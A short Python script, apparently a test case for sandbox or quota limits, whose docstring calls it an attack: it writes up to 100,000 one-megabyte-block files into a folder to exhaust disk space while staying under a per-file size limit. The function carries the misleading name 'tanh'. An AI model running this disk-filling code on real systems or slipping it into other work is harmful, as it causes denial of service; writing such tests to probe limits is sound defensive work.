"""Attack: fill the disk with many files, each below the file-size limit."""

import os


def tanh(folder, file_mb):
    written = 0
    block = b"x" * 2**20
    try:
        for index in range(100_000):
            with open(os.path.join(folder, f"fill-{index}.bin"), "wb") as file:
                for _ in range(file_mb):
                    file.write(block)
                    written += len(block)
    except OSError:
        pass
    return written
